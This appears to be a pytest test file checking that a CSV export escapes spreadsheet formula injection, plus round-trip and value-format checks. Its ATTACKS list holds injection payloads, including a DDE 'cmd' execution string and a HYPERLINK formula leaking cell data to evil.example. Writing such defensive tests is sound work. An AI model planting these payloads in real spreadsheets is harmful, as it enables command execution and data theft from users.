"""CSV that no spreadsheet computes."""

import csv
from datetime import UTC, date, datetime
from io import StringIO
from uuid import UUID
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as some

from reports.exports import BYTE_ORDER_MARK, FORMULA_STARTS, cell_text, csv_text, harmless

NEW_YORK = ZoneInfo("America/New_York")
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "|cmd",
    "%0A=1",
    '=HYPERLINK("http://evil.example?x="&A1;"x")',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_kept_as_text(attack):
    assert harmless(attack) == f"'{attack}"


@pytest.mark.parametrize("plain", ["", "P-2FG7KQX", "2027-03-03", "Harbour Pharmacy", "1.5", "a=b", "yes"])
def test_plain_text_stays_as_it_is(plain):
    assert harmless(plain) == plain


@given(some.lists(some.lists(some.text(alphabet=some.characters(exclude_categories=["Cs"])), min_size=2, max_size=2)))
def test_whatever_is_written_is_read_back_as_the_same_cells_and_none_is_a_formula(rows):
    text = csv_text(["one", "two"], rows, zone=NEW_YORK)

    read = list(csv.reader(StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))

    assert read == [["one", "two"], *([harmless(cell) for cell in row] for row in rows)]
    assert not [cell for row in read for cell in row if cell.lstrip()[:1] in FORMULA_STARTS and cell.strip()]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (date(2027, 3, 3), "2027-03-03"),
        (datetime(2027, 3, 3, 17, 0, tzinfo=UTC), "2027-03-03T12:00:00-05:00"),
        (4.04, "4.0"),
        (7, "7"),
        (UUID(int=1), "00000000-0000-0000-0000-000000000001"),
    ],
)
def test_values_are_written_so_that_machines_read_them(value, text):
    assert cell_text(value, NEW_YORK) == text
